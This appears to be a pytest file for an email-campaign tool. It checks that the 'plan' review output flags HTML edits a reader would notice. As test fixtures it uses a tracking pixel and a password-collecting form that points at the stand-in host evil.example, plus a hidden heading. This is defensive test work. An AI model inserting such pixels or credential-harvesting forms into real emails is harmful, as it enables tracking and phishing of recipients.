"""Review, end to end: what `plan` shows of an email's HTML change, in text and in Markdown,
against the sandbox (the remote HTML is the seeded one; the file's is edited)."""

from __future__ import annotations

from typing import Any

import pytest

from tests.support.project import Project

WELCOME = "onboarding/welcome.yaml"
HEADING = "<h1>Welcome to Acme</h1>"


def _edit(project: Project, old: str, new: str) -> None:
    text = project.read(WELCOME)
    assert old in text
    project.write(WELCOME, text.replace(old, new))


def _plans(project: Project, *extra: str) -> tuple[str, str]:
    text = project.run("plan", "--target", "sandbox", "--only", WELCOME, *extra)
    markdown = project.run(
        "plan", "--target", "sandbox", "--only", WELCOME, "--format", "markdown", *extra
    )
    assert text.code == 0, text.all
    assert markdown.code == 0, markdown.all
    return text.out, markdown.out


CASES = [
    (
        "tracking pixel",
        HEADING,
        HEADING + '<img src="https://evil.example/pixel.gif">',
        ["images:", "+ https://evil.example/pixel.gif (no alt)"],
    ),
    (
        "hidden heading",
        HEADING,
        '<h1 style="display:none">Welcome to Acme</h1>',
        ["- Welcome to Acme", "hidden text:", "+ Welcome to Acme"],
    ),
    (
        "form",
        HEADING,
        HEADING + '<form action="https://evil.example/login"><input name="password"></form>',
        ["forms:", "+ form action='https://evil.example/login' method='get'"],
    ),
]


@pytest.mark.parametrize(("case", "old", "new", "expected"), CASES, ids=[c[0] for c in CASES])
def test_html_changes_a_reader_would_notice_are_shown(
    demo: Project, sandbox: Any, case: str, old: str, new: str, expected: list[str]
) -> None:
    _edit(demo, old, new)
    sandbox.clear_requests()
    for out in _plans(demo):
        assert "markup only" not in out, out
        assert "campaign_content.content.email.html_content (what recipients see)" in out
        for line in expected:
            assert line in out, (case, out)
    # A plan only reads.
    assert all(r["method"] == "GET" or r["path"].endswith("/search") for r in sandbox.requests())


def test_html_diff_raw_shows_the_line_diff_in_text_and_markdown(demo: Project) -> None:
    _edit(demo, HEADING, HEADING + '<img src="https://evil.example/pixel.gif">')
    for out in _plans(demo, "--html-diff", "raw"):
        assert "campaign_content.content.email.html_content (raw HTML)" in out
        assert "-<h1>Welcome to Acme</h1>\n" in out
        assert '+<h1>Welcome to Acme</h1><img src="https://evil.example/pixel.gif">' in out
        assert "images:" not in out


def test_markup_only_is_said_only_when_nothing_a_reader_gets_changed(demo: Project) -> None:
    _edit(demo, HEADING, "<h1><span>Welcome to Acme</span></h1>")
    for out in _plans(demo):
        assert "markup only" in out
